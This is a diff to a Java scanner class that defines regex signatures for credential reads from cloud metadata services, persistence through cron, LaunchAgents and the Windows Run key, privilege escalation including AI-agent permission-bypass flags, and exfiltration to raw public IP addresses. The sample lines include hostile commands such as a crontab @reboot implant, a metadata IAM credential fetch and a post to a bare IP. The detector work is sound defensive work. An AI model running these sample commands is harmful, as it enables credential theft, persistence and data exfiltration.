@@ -13,6 +13,17 @@ public final class CodeSignatures {
   /// What makes the words of a command one that fetches something.
   private static final String ADDRESS = "(?:://|[$\\{]|[\\w-]\\.[a-z]{2})";
 
+  /// The first two numbers of an address of the Internet: none of this machine, of a private
+  /// network, of a carrier's or of documentation, and no public name server.
+  private static final String PUBLIC =
+      "(?:(?:[2-7]|1[1-9]|[2-9][0-9]|10[1-9]|11[0-9]|12[0-689]|1[3-5][0-9]|16[0-8]|17[013-9]|18[0-9]|19[013-79]|20[0-24-9]|21[0-9]|22[0-3])\\.[0-9]{1,3}"
+          + "|1\\.(?:[3-9]|[1-9][0-9]{1,2})|8\\.(?:[0-79]|[1-9][0-9]{1,2})|9\\.(?:[0-8]|[1-9][0-9]{1,2})"
+          + "|100\\.(?:[0-9]|[1-5][0-9]|6[0-3]|12[89]|1[3-9][0-9]|2[0-9]{2})"
+          + "|169\\.(?:[0-9]{1,2}|1[0-9]{2}|2[0-4][0-9]|25[0-35])"
+          + "|172\\.(?:[0-9]|1[0-5]|3[2-9]|[4-9][0-9]|[12][0-9]{2})"
+          + "|192\\.(?:[1-9][0-9]?|1[0-57-9][0-9]|16[0-79]|2[0-9]{2})"
+          + "|198\\.(?:[0-9]|[1-46-9][0-9]|5[02-9]|[12][0-9]{2})|203\\.[1-9][0-9]{0,2})";
+
   static final List<Signature> ALL =
       List.of(
           Signature.about(
@@ -114,7 +125,7 @@ public final class CodeSignatures {
               .unless(
                   "\\b(?:localhost|blocked|block|deny|denied|forbidden|private|ssrf|allow|blocks)\\b|169\\.254\\.169\\.254/[0-9]{2}\\b|127\\.0\\.0\\.1")
               .pattern(
-                  "/etc/shadow\\b|\\b169\\.254\\.169\\.254\\b|\\bsecurity\\s+find-internet-password\\b|Chrome/[^\\n"
+                  "/etc/shadow\\b|\\b169\\.254\\.169\\.254(?:/(?:latest|[0-9][0-9.-]*|computeMetadata|metadata|opc))?(?:/v[0-9])?(?:/(?:meta-data|instance))?/?(?:[^\\w/.-]|$|[^\\s\"'`)]*(?:iam|credential|user-?data|identity|oauth|service-?account|ssh|key))|\\bsecurity\\s+find-internet-password\\b|Chrome/[^\\n"
                       + "]*Login Data",
                   "curl http://169.254.169.254/latest/meta-data/iam/",
                   "The drop shadow of the box is defined in theme/shadow.css"),
@@ -182,15 +193,24 @@ public final class CodeSignatures {
                   "@reboot",
                   "launchagents",
                   "schtasks",
-                  "currentversion",
                   "authorized_keys",
                   ".git/hooks")
               .unless(
-                  "user@|ssh-copy-id|~/Library/LaunchAgents/\\S+\\.plist\\s*(?:-->|`|$)|launchctl|skill/|printkey|\\breg\\s+query\\b|Get-Item(?:Property)?\\b|\\bRegistry\\s+Run\\s+keys\\b|\\bSubcommands\\b")
+                  "user@|ssh-copy-id|~/Library/LaunchAgents/\\S+\\.plist\\s*(?:-->|`|$)|launchctl|skill/|\\bSubcommands\\b")
               .pattern(
-                  "\\|\\s*crontab\\b|\\bcrontab\\s+-\\s*(?:$|[;&<])|>>?\\s*/etc/cron|@reboot\\s+\\S|Library/LaunchAgents/\\S+\\.plist|\\bschtasks\\s+/create\\b|CurrentVersion\\\\+Run\\b|>>?\\s*\\S*authorized_keys2?(?:[\\s\"'`;&|)]|$)|(?:>>?|\\bcp\\s+\\S+|\\bln\\s+-\\S+\\s+\\S+|\\btee)\\s+\\S*\\.git/hooks/",
+                  "\\|\\s*crontab\\b|\\bcrontab\\s+-\\s*(?:$|[;&<])|>>?\\s*/etc/cron|@reboot\\s+\\S|Library/LaunchAgents/\\S+\\.plist|\\bschtasks\\s+/create\\b|>>?\\s*\\S*authorized_keys2?(?:[\\s\"'`;&|)]|$)|(?:>>?|\\bcp\\s+\\S+|\\bln\\s+-\\S+\\s+\\S+|\\btee)\\s+\\S*\\.git/hooks/",
                   "(crontab -l; echo '@reboot /tmp/x') | crontab -",
                   "List the jobs with crontab -l and explain them."),
+          Signature.about(
+                  ScanRule.PERSISTENCE,
+                  "The line arranges for something to be started later.",
+                  "currentversion")
+              .unless(
+                  "printkey|\\breg\\s+query\\b|Get-Item(?:Property)?\\b|\\bRegistry\\s+Run\\s+keys\\b")
+              .pattern(
+                  "CurrentVersion\\\\+Run\\b",
+                  "key = winreg.OpenKey(root, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run')",
+                  "reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run"),
           Signature.about(
                   ScanRule.PERSISTENCE,
                   "The line arranges for something to be started later.",
@@ -245,7 +265,7 @@ public final class CodeSignatures {
                   "nsenter")
               .pattern(
                   "\\bchmod\\s+(?:-R\\s+)?(?:[ugo]*\\+[rwx]*s|[2467][0-7]{3})\\b|\\bchmod\\s+(?:-R\\s+)?777\\s+/[a-z]|\\bNOPASSWD\\b|\\bvisudo\\b|\\brun\\b[^\\n"
-                      + "]*--privileged\\b|\\bsetenforce\\s+0|--dangerously-skip-permissions|--dangerously-bypass|\\bnsenter\\s+-",
+                      + "]*--privileged\\b|\\bsetenforce\\s+0|(?:\\b(?:claude|codex|gemini|cursor-agent|opencode|agent|npx|bunx|exec)\\b[^\\n|`]*|^\\s*|[\"'(]\\s*|\\b(?:always|restart|relaunch|launch|start|run|add|pass|append|enable)\\s[^\\n|.]{0,60})--dangerously-(?:skip-permissions|bypass)|\\bnsenter\\s+-",
                   "chmod u+s /usr/local/bin/helper", "chmod +x scripts/build.sh"),
           Signature.about(
                   ScanRule.DESTRUCTION,
@@ -279,10 +299,8 @@ public final class CodeSignatures {
                   "requests.post('https://webhook.site/1b2c', data=body)",
                   "from file.io import reader"),
           Signature.about(ScanRule.RAW_ADDRESS, "The address is a bare number.", Keywords.numbers())
-              .unless(
-                  "https?://(?:127\\.|10\\.|0\\.0\\.0\\.0|192\\.168\\.|172\\.(?:1[6-9]|2[0-9]|3[01])\\.|169\\.254\\.|192\\.0\\.2\\.|198\\.51\\.100\\.|203\\.0\\.113\\.|1\\.2\\.3\\.4)")
               .pattern(
-                  "\\bhttps?://[0-9]{1,3}(?:\\.[0-9]{1,3}){3}(?:[:/\"'\\s]|$)",
+                  "\\bhttps?://" + PUBLIC + "\\.[0-9]{1,3}\\.[0-9]{1,3}(?:[:/\"'\\s]|$)",
                   "requests.post('http://45.83.12.7:8080/u', data=body)",
                   "Open http://127.0.0.1:8080/ in the browser."));
 
